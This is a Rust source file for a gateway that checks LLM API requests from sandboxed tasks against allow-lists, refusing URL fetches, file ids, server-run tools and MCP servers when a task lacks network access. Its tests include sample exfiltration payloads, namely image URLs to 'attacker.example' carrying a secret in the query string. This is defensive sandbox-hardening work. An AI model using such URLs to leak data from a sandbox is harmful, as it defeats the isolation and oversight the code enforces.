//! What the door forwards: an allow-list of request shapes, per wire
//! protocol. A request reaches the provider with the real key, and a
//! provider acts on more than words: it fetches an image or a document by
//! URL, reads a file of the account by its id, runs tools on its own
//! servers (web search and fetch, code execution, MCP servers at any URL),
//! continues a stored conversation. Any of these would give a task without
//! network a way out (a GET with a URL of its choosing), or reach other
//! calls of the account. So the door passes what it knows to be local,
//! and nothing else:
//!
//! - top-level keys it knows (sampling, limits, streaming, the
//!   conversation, the program's own tools); a key it does not know is
//!   refused;
//! - messages and content blocks of the types it knows to be local (text,
//!   tool calls and their results, reasoning, images and documents whose
//!   bytes are in the request), each with the fields it knows; a block of
//!   another type (a server tool's call or result, a reference to a stored
//!   item) or an unknown field is refused;
//! - a URL source, a `data:` URL aside, or a file id: only for a task that
//!   has the network (which could fetch it itself);
//! - tools: the program's own (custom functions; Anthropic's bash, text
//!   editor, computer and memory tools; Codex's shell and patch tools),
//!   kept; those the provider runs, taken out of the request, whatever the
//!   task's network (they spend outside the budgets).
//!
//! A refusal is a 400 the program shows, naming the key or block and
//! where it is (`messages[3].content[1]: an image with a `url` source`).

use serde_json::{Map, Value, json};

/// The wire protocol of a request, as it came to the door.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(super) enum Wire {
    /// Anthropic Messages (and its token counting).
    Messages,
    /// OpenAI Responses.
    Responses,
    /// OpenAI Chat Completions.
    Chat,
}

/// Checks `body`, a request of `wire` from a task that has the network or
/// not, and takes out the tools the provider would run: the reason if it
/// may not pass.
pub(super) fn check(
    wire: Wire,
    body: &mut Map<String, Value>,
    network: bool,
) -> Result<(), String> {
    let known: &[&str] = match wire {
        Wire::Messages => MESSAGES_KEYS,
        Wire::Responses => RESPONSES_KEYS,
        Wire::Chat => CHAT_KEYS,
    };
    if let Some(key) = body.keys().find(|k| !known.contains(&k.as_str())) {
        return Err(format!(
            "swarm's gateway does not pass `{key}`: a task's model calls reach the model only, \
             with what the gateway knows to stay there"
        ));
    }
    let check = Check { network };
    match wire {
        Wire::Messages => {
            if let Some(system) = body.get("system") {
                check.anthropic_content(system, "system", &[Kind::Text])?;
            }
            for (i, message) in array(body.get("messages"), "messages")?.iter().enumerate() {
                let at = format!("messages[{i}]");
                let message = object(message, &at)?;
                fields(message, &["role", "content"], &at)?;
                let content = message.get("content").unwrap_or(&Value::Null);
                check.anthropic_content(content, &format!("{at}.content"), ANTHROPIC_BLOCKS)?;
            }
        }
        Wire::Responses => {
            // Nothing of it is kept at the provider either.
            body.insert("store".into(), json!(false));
            if let Some(instructions) = body.get("instructions")
                && !instructions.is_string()
            {
                check.responses_input(instructions, "instructions")?;
            }
            if let Some(input) = body.get("input") {
                check.responses_input(input, "input")?;
            }
        }
        Wire::Chat => {
            if body.get("n").is_some_and(|n| n.as_u64() != Some(1)) {
                body.insert("n".into(), json!(1));
            }
            for (i, message) in array(body.get("messages"), "messages")?.iter().enumerate() {
                let at = format!("messages[{i}]");
                let message = object(message, &at)?;
                fields(message, CHAT_MESSAGE, &at)?;
                match message.get("content") {
                    None | Some(Value::Null | Value::String(_)) => {}
                    Some(Value::Array(parts)) => {
                        for (j, part) in parts.iter().enumerate() {
                            check.chat_part(part, &format!("{at}.content[{j}]"))?;
                        }
                    }
                    Some(_) => return Err(format!("{at}.content: not text or parts")),
                }
            }
        }
    }
    if let Some(Value::Array(tools)) = body.get_mut("tools") {
        tools.retain(|tool| client_tool(wire, tool));
    }
    Ok(())
}

/// Whether `tool` is one the program runs itself (kept), not one the
/// provider runs on its servers (taken out).
pub(super) fn client_tool(wire: Wire, tool: &Value) -> bool {
    let kind = tool.get("type").and_then(Value::as_str);
    match wire {
        // Custom tools have no type; Anthropic-defined client tools (bash,
        // text editor, computer, memory) are run by the program.
        Wire::Messages => kind.is_none_or(|k| {
            k == "custom"
                || ["bash_", "text_editor_", "computer_", "memory_"]
                    .iter()
                    .any(|p| k.starts_with(p))
        }),
        Wire::Responses => matches!(
            kind,
            Some("function" | "custom" | "local_shell" | "shell" | "apply_patch" | "namespace")
        ),
        Wire::Chat => matches!(kind, Some("function" | "custom")),
    }
}

/// Top-level keys of a Messages request. Not `container` or
/// `mcp_servers` (the provider's own sandbox and MCP servers at any URL).
const MESSAGES_KEYS: &[&str] = &[
    "model",
    "messages",
    "system",
    "max_tokens",
    "metadata",
    "stop_sequences",
    "stream",
    "temperature",
    "top_k",
    "top_p",
    "tools",
    "tool_choice",
    "thinking",
    "service_tier",
    "context_management",
    "output_config",
    "output_format",
    "cache_control",
    "inference_geo",
    "speed",
];

/// Top-level keys of a Responses request. Not `background` (a job left
/// running), `previous_response_id`, `conversation` or `prompt` (what the
/// account stored).
const RESPONSES_KEYS: &[&str] = &[
    "model",
    "input",
    "instructions",
    "max_output_tokens",
    "temperature",
    "top_p",
    "top_logprobs",
    "tools",
    "tool_choice",
    "parallel_tool_calls",
    "max_tool_calls",
    "reasoning",
    "text",
    "stream",
    "stream_options",
    "store",
    "metadata",
    "truncation",
    "include",
    "prompt_cache_key",
    "prompt_cache_retention",
    "service_tier",
    "user",
    "safety_identifier",
    // Codex's own (its version, the turn): metadata, nothing to fetch.
    "client_metadata",
];

/// Top-level keys of a Chat Completions request. Not `web_search_options`
/// or `audio`.
const CHAT_KEYS: &[&str] = &[
    "model",
    "messages",
    "max_tokens",
    "max_completion_tokens",
    "temperature",
    "top_p",
    "n",
    "stream",
    "stream_options",
    "stop",
    "tools",
    "tool_choice",
    "parallel_tool_calls",
    "functions",
    "function_call",
    "response_format",
    "seed",
    "frequency_penalty",
    "presence_penalty",
    "logit_bias",
    "logprobs",
    "top_logprobs",
    "user",
    "safety_identifier",
    "reasoning_effort",
    "verbosity",
    "metadata",
    "store",
    "service_tier",
    "prediction",
    "modalities",
    "prompt_cache_key",
];

/// Fields of a Chat Completions message.
const CHAT_MESSAGE: &[&str] = &[
    "role",
    "content",
    "name",
    "tool_calls",
    "tool_call_id",
    "function_call",
    "refusal",
    "reasoning_content",
    "reasoning",
];

/// An Anthropic content block the door knows.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Kind {
    Text,
    Image,
    Document,
    SearchResult,
    ToolUse,
    ToolResult,
    Thinking,
    RedactedThinking,
}

impl Kind {
    fn of(name: &str) -> Option<Self> {
        Some(match name {
            "text" => Kind::Text,
            "image" => Kind::Image,
            "document" => Kind::Document,
            "search_result" => Kind::SearchResult,
            "tool_use" => Kind::ToolUse,
            "tool_result" => Kind::ToolResult,
            "thinking" => Kind::Thinking,
            "redacted_thinking" => Kind::RedactedThinking,
            _ => return None,
        })
    }

    /// Its fields.
    fn fields(self) -> &'static [&'static str] {
        match self {
            Kind::Text => &["type", "text", "cache_control", "citations"],
            Kind::Image => &["type", "source", "cache_control"],
            Kind::Document => &[
                "type",
                "source",
                "cache_control",
                "citations",
                "context",
                "title",
            ],
            Kind::SearchResult => &[
                "type",
                "source",
                "title",
                "content",
                "cache_control",
                "citations",
            ],
            Kind::ToolUse => &["type", "id", "name", "input", "cache_control", "caller"],
            Kind::ToolResult => &[
                "type",
                "tool_use_id",
                "content",
                "is_error",
                "cache_control",
            ],
            Kind::Thinking => &["type", "thinking", "signature"],
            Kind::RedactedThinking => &["type", "data"],
        }
    }
}

/// Blocks of a message.
const ANTHROPIC_BLOCKS: &[Kind] = &[
    Kind::Text,
    Kind::Image,
    Kind::Document,
    Kind::SearchResult,
    Kind::ToolUse,
    Kind::ToolResult,
    Kind::Thinking,
    Kind::RedactedThinking,
];

/// Blocks of a tool's result.
const RESULT_BLOCKS: &[Kind] = &[Kind::Text, Kind::Image, Kind::Document, Kind::SearchResult];

/// Item types of a Responses input, with their fields. A message may come
/// without a `type`.
const RESPONSES_ITEMS: &[(&str, &[&str])] = &[
    ("message", &["type", "id", "role", "content", "status"]),
    (
        "function_call",
        &["type", "id", "call_id", "name", "arguments", "status"],
    ),
    (
        "function_call_output",
        &["type", "id", "call_id", "output", "status"],
    ),
    (
        "reasoning",
        &[
            "type",
            "id",
            "summary",
            "content",
            "encrypted_content",
            "status",
        ],
    ),
    (
        "custom_tool_call",
        &["type", "id", "call_id", "name", "input", "status"],
    ),
    (
        "custom_tool_call_output",
        &["type", "id", "call_id", "output"],
    ),
    (
        "local_shell_call",
        &["type", "id", "call_id", "action", "status"],
    ),
    (
        "local_shell_call_output",
        &["type", "id", "call_id", "output", "status"],
    ),
    ("shell_call", &["type", "id", "call_id", "action", "status"]),
    (
        "shell_call_output",
        &[
            "type",
            "id",
            "call_id",
            "output",
            "max_output_length",
            "status",
        ],
    ),
    (
        "apply_patch_call",
        &["type", "id", "call_id", "operation", "status"],
    ),
    (
        "apply_patch_call_output",
        &["type", "id", "call_id", "output", "status"],
    ),
    ("compaction", &["type", "id", "encrypted_content"]),
];

/// Parts of a Responses message's content, with their fields.
const RESPONSES_PARTS: &[(&str, &[&str])] = &[
    ("input_text", &["type", "text"]),
    ("output_text", &["type", "text", "annotations", "logprobs"]),
    ("refusal", &["type", "refusal"]),
    ("summary_text", &["type", "text"]),
    ("reasoning_text", &["type", "text"]),
    ("input_image", &["type", "image_url", "detail", "file_id"]),
    (
        "input_file",
        &["type", "file_data", "filename", "file_id", "file_url"],
    ),
];

struct Check {
    network: bool,
}

impl Check {
    /// Anthropic content at `at`: a string, or blocks of the kinds `allowed`.
    fn anthropic_content(&self, content: &Value, at: &str, allowed: &[Kind]) -> Result<(), String> {
        let blocks = match content {
            Value::String(_) => return Ok(()),
            Value::Array(blocks) => blocks,
            _ => return Err(format!("{at}: not text or content blocks")),
        };
        for (i, block) in blocks.iter().enumerate() {
            let at = format!("{at}[{i}]");
            let block = object(block, &at)?;
            let name = block.get("type").and_then(Value::as_str).unwrap_or("");
            let Some(kind) = Kind::of(name).filter(|k| allowed.contains(k)) else {
                return Err(format!(
                    "{at}: swarm's gateway does not pass `{name}` blocks here \
                     (what the provider would run or fetch itself is not for a task)"
                ));
            };
            fields(block, kind.fields(), &at)?;
            match kind {
                Kind::Image | Kind::Document => {
                    self.anthropic_source(block.get("source"), &format!("{at}.source"))?;
                }
                Kind::ToolResult => {
                    if let Some(content) = block.get("content") {
                        self.anthropic_content(content, &format!("{at}.content"), RESULT_BLOCKS)?;
                    }
                }
                Kind::SearchResult => {
                    if let Some(content) = block.get("content") {
                        self.anthropic_content(content, &format!("{at}.content"), &[Kind::Text])?;
                    }
                }
                _ => {}
            }
        }
        Ok(())
    }

    /// An image's or document's `source`: its bytes in the request, or
    /// (with the network) a URL or a file of the account.
    fn anthropic_source(&self, source: Option<&Value>, at: &str) -> Result<(), String> {
        let source = object(source.unwrap_or(&Value::Null), at)?;
        match source.get("type").and_then(Value::as_str).unwrap_or("") {
            "base64" | "text" => fields(source, &["type", "media_type", "data"], at),
            "content" => {
                fields(source, &["type", "content"], at)?;
                let content = source.get("content").unwrap_or(&Value::Null);
                self.anthropic_content(
                    content,
                    &format!("{at}.content"),
                    &[Kind::Text, Kind::Image],
                )
            }
            "url" | "file" if self.network => Ok(()),
            "url" => Err(self.fetches(at, "a `url` source")),
            "file" => Err(self.fetches(at, "a `file` source")),
            other => Err(format!(
                "{at}: swarm's gateway does not pass `{other}` sources"
            )),
        }
    }

    /// A Responses `input` (or array `instructions`): text, or items.
    fn responses_input(&self, input: &Value, at: &str) -> Result<(), String> {
        let items = match input {
            Value::String(_) => return Ok(()),
            Value::Array(items) => items,
            _ => return Err(format!("{at}: not text or input items")),
        };
        for (i, item) in items.iter().enumerate() {
            let at = format!("{at}[{i}]");
            let item = object(item, &at)?;
            let name = item
                .get("type")
                .and_then(Value::as_str)
                .unwrap_or("message");
            let Some((_, known)) = RESPONSES_ITEMS.iter().find(|(n, _)| *n == name) else {
                return Err(format!(
                    "{at}: swarm's gateway does not pass `{name}` items \
                     (what the provider would run, fetch or look up itself is not for a task)"
                ));
            };
            fields(item, known, &at)?;
            // The fields that hold content parts (a shell call's output is
            // its own data: what the program ran printed).
            let parts: &[&str] = match name {
                "message" => &["content"],
                "reasoning" => &["content", "summary"],
                "function_call_output" | "custom_tool_call_output" => &["output"],
                _ => &[],
            };
            for key in parts {
                match item.get(*key) {
                    Some(Value::Array(parts)) => {
                        for (j, part) in parts.iter().enumerate() {
                            self.responses_part(part, &format!("{at}.{key}[{j}]"))?;
                        }
                    }
                    None | Some(Value::Null | Value::String(_)) => {}
                    Some(_) => return Err(format!("{at}.{key}: not text or parts")),
                }
            }
        }
        Ok(())
    }

    fn responses_part(&self, part: &Value, at: &str) -> Result<(), String> {
        let part = object(part, at)?;
        let name = part.get("type").and_then(Value::as_str).unwrap_or("");
        let Some((_, known)) = RESPONSES_PARTS.iter().find(|(n, _)| *n == name) else {
            return Err(format!(
                "{at}: swarm's gateway does not pass `{name}` parts"
            ));
        };
        fields(part, known, at)?;
        if part.contains_key("file_id") {
            self.allowed_fetch(at, "a `file_id`")?;
        }
        if part.contains_key("file_url") {
            self.allowed_fetch(at, "a `file_url`")?;
        }
        if let Some(url) = part.get("image_url") {
            self.image_url(url, at)?;
        }
        Ok(())
    }

    fn chat_part(&self, part: &Value, at: &str) -> Result<(), String> {
        let part = object(part, at)?;
        match part.get("type").and_then(Value::as_str).unwrap_or("") {
            "text" => fields(part, &["type", "text"], at),
            "refusal" => fields(part, &["type", "refusal"], at),
            "input_audio" => fields(part, &["type", "input_audio"], at),
            "image_url" => {
                fields(part, &["type", "image_url"], at)?;
                let image = object(part.get("image_url").unwrap_or(&Value::Null), at)?;
                fields(image, &["url", "detail"], at)?;
                self.image_url(image.get("url").unwrap_or(&Value::Null), at)
            }
            "file" => {
                fields(part, &["type", "file"], at)?;
                let file = object(part.get("file").unwrap_or(&Value::Null), at)?;
                fields(file, &["file_data", "filename", "file_id"], at)?;
                match file.contains_key("file_id") {
                    true => self.allowed_fetch(at, "a `file_id`"),
                    false => Ok(()),
                }
            }
            other => Err(format!(
                "{at}: swarm's gateway does not pass `{other}` parts"
            )),
        }
    }

    /// An image URL: its bytes (`data:`), or with the network any URL.
    fn image_url(&self, url: &Value, at: &str) -> Result<(), String> {
        let text = url.as_str().unwrap_or("");
        match text
            .get(..5)
            .is_some_and(|p| p.eq_ignore_ascii_case("data:"))
        {
            true => Ok(()),
            false => self.allowed_fetch(at, "an image by URL"),
        }
    }

    fn allowed_fetch(&self, at: &str, what: &str) -> Result<(), String> {
        match self.network {
            true => Ok(()),
            false => Err(self.fetches(at, what)),
        }
    }

    fn fetches(&self, at: &str, what: &str) -> String {
        format!(
            "{at}: swarm's gateway does not pass {what} for a task without network \
             (the provider would fetch it): put the bytes in the request (base64) instead"
        )
    }
}

/// `value` as an object, or an error at `at`.
fn object<'a>(value: &'a Value, at: &str) -> Result<&'a Map<String, Value>, String> {
    value
        .as_object()
        .ok_or_else(|| format!("{at}: not an object"))
}

fn array<'a>(value: Option<&'a Value>, at: &str) -> Result<&'a [Value], String> {
    match value {
        None => Ok(&[]),
        Some(Value::Array(items)) => Ok(items),
        Some(_) => Err(format!("{at}: not a list")),
    }
}

/// Refuses a field of `object` that is not one of `known`.
fn fields(object: &Map<String, Value>, known: &[&str], at: &str) -> Result<(), String> {
    match object.keys().find(|k| !known.contains(&k.as_str())) {
        None => Ok(()),
        Some(key) => Err(format!(
            "{at}: swarm's gateway does not pass the field `{key}` here"
        )),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn checked(wire: Wire, body: Value, network: bool) -> Result<Value, String> {
        let Value::Object(mut body) = body else {
            panic!("an object")
        };
        check(wire, &mut body, network).map(|()| Value::Object(body))
    }

    fn refused(wire: Wire, body: Value) -> String {
        checked(wire, body, false).unwrap_err()
    }

    #[test]
    fn a_messages_conversation_with_tools_passes() {
        let body = json!({"model": "m", "max_tokens": 10, "stream": true,
            "system": [{"type": "text", "text": "s", "cache_control": {"type": "ephemeral"}}],
            "metadata": {"user_id": "u"}, "thinking": {"type": "enabled", "budget_tokens": 5},
            "messages": [
                {"role": "user", "content": "hi"},
                {"role": "assistant", "content": [{"type": "thinking", "thinking": "t", "signature": "s"},
                    {"type": "tool_use", "id": "1", "name": "Bash", "input": {"command": "ls"}}]},
                {"role": "user", "content": [{"type": "tool_result", "tool_use_id": "1",
                    "content": [{"type": "text", "text": "ok"},
                        {"type": "image", "source": {"type": "base64", "media_type": "image/png", "data": "AA=="}}]},
                    {"type": "document", "source": {"type": "base64", "media_type": "application/pdf", "data": "AA=="}}]}],
            "tools": [{"name": "Bash", "input_schema": {}}, {"type": "web_search_20250305", "name": "web_search"},
                {"type": "bash_20250124", "name": "bash"}]});
        let passed = checked(Wire::Messages, body, false).unwrap();
        let tools: Vec<&str> = passed["tools"]
            .as_array()
            .unwrap()
            .iter()
            .map(|t| t["name"].as_str().unwrap())
            .collect();
        assert_eq!(
            tools,
            ["Bash", "bash"],
            "the provider's own tools are taken out"
        );
    }

    #[test]
    fn what_the_provider_would_fetch_or_run_is_refused_without_network() {
        let url_image = json!({"model": "m", "messages": [{"role": "user", "content": [
            {"type": "image", "source": {"type": "url", "url": "http://attacker.example/x?secret=1"}}]}]});
        let e = refused(Wire::Messages, url_image.clone());
        insta::assert_snapshot!(e, @"messages[0].content[0].source: swarm's gateway does not pass a `url` source for a task without network (the provider would fetch it): put the bytes in the request (base64) instead");
        assert!(
            checked(Wire::Messages, url_image, true).is_ok(),
            "with the network it passes"
        );
        let in_result = json!({"model": "m", "messages": [{"role": "user", "content": [
            {"type": "tool_result", "tool_use_id": "1", "content": [
                {"type": "document", "source": {"type": "url", "url": "http://x/doc.pdf"}}]}]}]});
        insta::assert_snapshot!(refused(Wire::Messages, in_result), @"messages[0].content[0].content[0].source: swarm's gateway does not pass a `url` source for a task without network (the provider would fetch it): put the bytes in the request (base64) instead");
        let file = json!({"model": "m", "messages": [{"role": "user", "content": [
            {"type": "document", "source": {"type": "file", "file_id": "file_1"}}]}]});
        insta::assert_snapshot!(refused(Wire::Messages, file), @"messages[0].content[0].source: swarm's gateway does not pass a `file` source for a task without network (the provider would fetch it): put the bytes in the request (base64) instead");
        let blocks: Vec<String> = [
            "server_tool_use",
            "web_search_tool_result",
            "mcp_tool_use",
            "container_upload",
            "whatever_next",
        ]
        .into_iter()
        .map(|block| {
            let body = json!({"model": "m", "messages": [{"role": "assistant", "content": [{"type": block}]}]});
            refused(Wire::Messages, body)
        })
        .collect();
        insta::assert_snapshot!(blocks.join("\n"), @"
        messages[0].content[0]: swarm's gateway does not pass `server_tool_use` blocks here (what the provider would run or fetch itself is not for a task)
        messages[0].content[0]: swarm's gateway does not pass `web_search_tool_result` blocks here (what the provider would run or fetch itself is not for a task)
        messages[0].content[0]: swarm's gateway does not pass `mcp_tool_use` blocks here (what the provider would run or fetch itself is not for a task)
        messages[0].content[0]: swarm's gateway does not pass `container_upload` blocks here (what the provider would run or fetch itself is not for a task)
        messages[0].content[0]: swarm's gateway does not pass `whatever_next` blocks here (what the provider would run or fetch itself is not for a task)
        ");
        let keys: Vec<String> = ["mcp_servers", "container", "a_new_key"]
            .into_iter()
            .map(|key| {
                let mut body = json!({"model": "m", "messages": []});
                body[key] = json!([{"url": "http://x"}]);
                refused(Wire::Messages, body)
            })
            .collect();
        insta::assert_snapshot!(keys.join("\n"), @"
        swarm's gateway does not pass `mcp_servers`: a task's model calls reach the model only, with what the gateway knows to stay there
        swarm's gateway does not pass `container`: a task's model calls reach the model only, with what the gateway knows to stay there
        swarm's gateway does not pass `a_new_key`: a task's model calls reach the model only, with what the gateway knows to stay there
        ");
        let field = json!({"model": "m", "messages": [{"role": "user", "content": [
            {"type": "text", "text": "t", "fetch": "http://x"}]}]});
        insta::assert_snapshot!(refused(Wire::Messages, field), @"messages[0].content[0]: swarm's gateway does not pass the field `fetch` here");
    }

    #[test]
    fn responses_items_pass_and_urls_and_stored_items_do_not() {
        let body = json!({"model": "m", "instructions": "i", "store": true, "include": ["reasoning.encrypted_content"],
            "input": [
                {"role": "user", "content": [{"type": "input_text", "text": "hi"},
                    {"type": "input_image", "image_url": "data:image/png;base64,AA==", "detail": "auto"}]},
                {"type": "reasoning", "id": "r", "summary": [{"type": "summary_text", "text": "s"}], "encrypted_content": "e"},
                {"type": "function_call", "call_id": "c", "name": "shell", "arguments": "{}"},
                {"type": "function_call_output", "call_id": "c", "output": "ok"},
                {"type": "message", "role": "assistant", "content": [{"type": "output_text", "text": "t", "annotations": []}]}]});
        let passed = checked(Wire::Responses, body, false).unwrap();
        assert_eq!(passed["store"], json!(false));
        let parts: Vec<String> = [
            json!({"type": "input_image", "image_url": "https://x/y.png"}),
            json!({"type": "input_file", "file_url": "https://x/y.pdf"}),
            json!({"type": "input_image", "file_id": "file_1"}),
        ]
        .into_iter()
        .map(|item| {
            let body = json!({"model": "m", "input": [{"role": "user", "content": [item]}]});
            refused(Wire::Responses, body)
        })
        .collect();
        insta::assert_snapshot!(parts.join("\n"), @"
        input[0].content[0]: swarm's gateway does not pass an image by URL for a task without network (the provider would fetch it): put the bytes in the request (base64) instead
        input[0].content[0]: swarm's gateway does not pass a `file_url` for a task without network (the provider would fetch it): put the bytes in the request (base64) instead
        input[0].content[0]: swarm's gateway does not pass a `file_id` for a task without network (the provider would fetch it): put the bytes in the request (base64) instead
        ");
        let items: Vec<String> = [
            "item_reference",
            "web_search_call",
            "mcp_call",
            "computer_call_output",
        ]
        .into_iter()
        .map(|item| {
            let body = json!({"model": "m", "input": [{"type": item, "id": "x"}]});
            refused(Wire::Responses, body)
        })
        .collect();
        insta::assert_snapshot!(items.join("\n"), @"
        input[0]: swarm's gateway does not pass `item_reference` items (what the provider would run, fetch or look up itself is not for a task)
        input[0]: swarm's gateway does not pass `web_search_call` items (what the provider would run, fetch or look up itself is not for a task)
        input[0]: swarm's gateway does not pass `mcp_call` items (what the provider would run, fetch or look up itself is not for a task)
        input[0]: swarm's gateway does not pass `computer_call_output` items (what the provider would run, fetch or look up itself is not for a task)
        ");
        let keys: Vec<String> = [
            "previous_response_id",
            "background",
            "conversation",
            "prompt",
        ]
        .into_iter()
        .map(|key| {
            let mut body = json!({"model": "m", "input": "x"});
            body[key] = json!("x");
            refused(Wire::Responses, body)
        })
        .collect();
        insta::assert_snapshot!(keys.join("\n"), @"
        swarm's gateway does not pass `previous_response_id`: a task's model calls reach the model only, with what the gateway knows to stay there
        swarm's gateway does not pass `background`: a task's model calls reach the model only, with what the gateway knows to stay there
        swarm's gateway does not pass `conversation`: a task's model calls reach the model only, with what the gateway knows to stay there
        swarm's gateway does not pass `prompt`: a task's model calls reach the model only, with what the gateway knows to stay there
        ");
    }

    #[test]
    fn chat_parts_pass_and_urls_do_not() {
        let body = json!({"model": "m", "n": 3, "messages": [
            {"role": "system", "content": "s"},
            {"role": "user", "content": [{"type": "text", "text": "t"},
                {"type": "image_url", "image_url": {"url": "data:image/png;base64,AA=="}}]},
            {"role": "assistant", "content": null, "tool_calls": [{"id": "1", "type": "function",
                "function": {"name": "f", "arguments": "{}"}}]},
            {"role": "tool", "tool_call_id": "1", "content": "ok"}]});
        assert_eq!(checked(Wire::Chat, body, false).unwrap()["n"], json!(1));
        let url = json!({"model": "m", "messages": [{"role": "user", "content": [
            {"type": "image_url", "image_url": {"url": "http://attacker.example/?q=secret"}}]}]});
        insta::assert_snapshot!(refused(Wire::Chat, url.clone()), @"messages[0].content[0]: swarm's gateway does not pass an image by URL for a task without network (the provider would fetch it): put the bytes in the request (base64) instead");
        assert!(checked(Wire::Chat, url, true).is_ok());
        let body = json!({"model": "m", "messages": [], "web_search_options": {}});
        insta::assert_snapshot!(refused(Wire::Chat, body), @"swarm's gateway does not pass `web_search_options`: a task's model calls reach the model only, with what the gateway knows to stay there");
    }
}
